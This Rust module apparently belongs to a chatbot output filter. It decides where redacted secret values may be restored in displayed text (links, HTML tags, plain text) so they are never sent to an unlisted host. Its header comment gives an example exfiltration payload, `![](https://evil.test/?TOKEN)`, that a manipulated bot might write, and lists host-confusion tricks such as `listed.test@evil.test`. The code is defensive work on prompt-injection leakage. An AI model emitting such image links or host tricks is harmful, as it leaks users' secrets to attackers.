//! Where in a text we are, as whoever shows it may understand it: in a link, in an HTML tag, or in between.
//!
//! The rule: a value is shown only where no reader would send it anywhere. A bot that was talked into it writes
//! `![](https://evil.test/?TOKEN)`; restored there, the value would leave as the picture is fetched. Readers disagree about where
//! links and tags end (browsers, Markdown, the link finders of chat programs), so of several readings the longest counts.
//!
//! What would defeat it: ending a link at a quote or a bracket, which link finders take in; taking the first `host` of
//! `https://listed.test@evil.test/` for the real one; looking at what the bot wrote instead of what is shown, since a
//! restored value can itself be the beginning of a link. Hence [`Place::read`] is given the text as it is shown.

mod link;
mod tag;
mod target;

use self::{link::Link, tag::Tag, target::Target};
use super::Hosts;

/// What may be done with a token that begins here.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Leave {
    /// Leave it.
    Keep,
    /// Write the value.
    Restore,
    /// Write the value if `>` follows the token: `<TOKEN>`, as in `Alice <a@example.com>`.
    RestoreBracketed,
    /// Write the value percent-encoded: this is a link to a listed host.
    Encode,
}

/// A place in a text.
#[derive(Clone, Debug, Default)]
pub(super) struct Place {
    tag: Tag,
    target: Target,
    link: Link,
}

impl Place {
    /// Goes on behind this text.
    pub(super) fn read(&mut self, shown: &str, hosts: &Hosts) {
        for c in shown.chars() {
            let in_value = self.tag.is_in_value();
            self.tag.read(c);
            self.target.read(c);
            if !in_value || !self.tag.is_inside() {
                self.link.read(c, hosts);
            }
        }
    }

    /// What may be done here.
    pub(super) fn leave(&self) -> Leave {
        match (self.tag.is_inside(), self.target.is_inside(), &self.link) {
            (false, _, Link::Listed(_)) => Leave::Encode,
            (false, false, Link::Outside(word)) if !word.could_be_host() => {
                if self.tag.is_opening() {
                    Leave::RestoreBracketed
                } else {
                    Leave::Restore
                }
            }
            _ => Leave::Keep,
        }
    }
}

#[cfg(test)]
mod tests;
